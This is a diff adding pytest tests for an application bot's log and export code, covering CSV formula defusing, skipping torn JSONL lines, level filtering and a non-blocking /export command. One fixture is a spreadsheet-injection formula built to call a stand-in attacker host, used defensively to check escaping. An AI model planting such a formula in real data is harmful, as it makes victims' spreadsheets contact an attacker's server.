@@ -0,0 +1,61 @@
+import asyncio
+import csv
+import io
+import json
+
+import main
+from updates import feed, msg, new_uid
+
+def test_csv_export_defuses_formulas(monkeypatch, tmp_path):
+    log = main.ApplicationLog(str(tmp_path / "applications.jsonl"))
+    monkeypatch.setattr(main, "applications", log)
+    formula = '=IMPORTXML(CONCAT("ht","tps:/","/evil.example"),"//a")'
+    assert not main.bad_text_general(formula)
+    log.append({"no": 1, "ts": "2026-01-01T00:00:00+00:00", "user_id": 5, "lvl": 80,
+                "nick": "-Nick", "why": formula, "prime": "20:00", "country": "@home\tcity"})
+
+    rows = list(csv.DictReader(io.StringIO("".join(main.iter_export("csv", None)))))
+    assert rows[0]["why"] == "'" + formula
+    assert rows[0]["nick"] == "'-Nick"
+    assert rows[0]["country"] == "'@home\tcity"
+    assert rows[0]["prime"] == "20:00" and rows[0]["user_id"] == "5"
+
+    # В JSONL текст как есть — это не таблица
+    record = json.loads(next(main.iter_export("jsonl", None)))
+    assert record["why"] == formula
+
+def test_torn_log_line_is_skipped(tmp_path):
+    log = main.ApplicationLog(str(tmp_path / "applications.jsonl"))
+    log.append({"no": 1, "ts": "2026-01-01T00:00:00+00:00", "user_id": 5, "lvl": 80})
+    with open(log.path, "a", encoding="utf-8") as f:
+        f.write('{"no": 2, "ts": "2026-01-0\n')
+    log.append({"no": 3, "ts": "2026-01-02T00:00:00+00:00", "user_id": 7, "lvl": 80})
+
+    assert [r["no"] for r in log.iter()] == [1, 3]
+
+def test_export_keeps_records_without_lvl(monkeypatch, tmp_path):
+    log = main.ApplicationLog(str(tmp_path / "applications.jsonl"))
+    monkeypatch.setattr(main, "applications", log)
+    log.append({"no": 1, "ts": "2026-01-01T00:00:00+00:00", "user_id": 5, "lvl": ""})
+    log.append({"no": 2, "ts": "2026-01-01T00:00:00+00:00", "user_id": 6, "lvl": 85})
+
+    assert [r["no"] for r in log.iter(main.export_filter())] == [1, 2]
+    assert [r["no"] for r in log.iter(main.export_filter(lvl="80-99"))] == [2]
+
+def test_export_command_does_not_hold_the_handler(run, api, monkeypatch, tmp_path):
+    monkeypatch.setattr(main, "applications", main.ApplicationLog(str(tmp_path / "applications.jsonl")))
+    admin = new_uid()
+    held = api.hold["sendDocument"] = asyncio.Event()
+
+    async def scenario():
+        # Хэндлер возвращается, пока файл ещё не ушёл: слот и лок полосы свободны
+        await asyncio.wait_for(feed(msg(admin, "/export", chat_type="supergroup", chat_id=main.ADMIN_CHAT_ID)), 2)
+        assert main.export_tasks
+        while not api.sent("sendDocument"):
+            await asyncio.sleep(0.01)
+        held.set()
+        await asyncio.gather(*main.export_tasks)
+
+    run(scenario())
+    (doc,) = api.sent("sendDocument", main.ADMIN_CHAT_ID)
+    assert doc["caption"] == "Заявок: 0"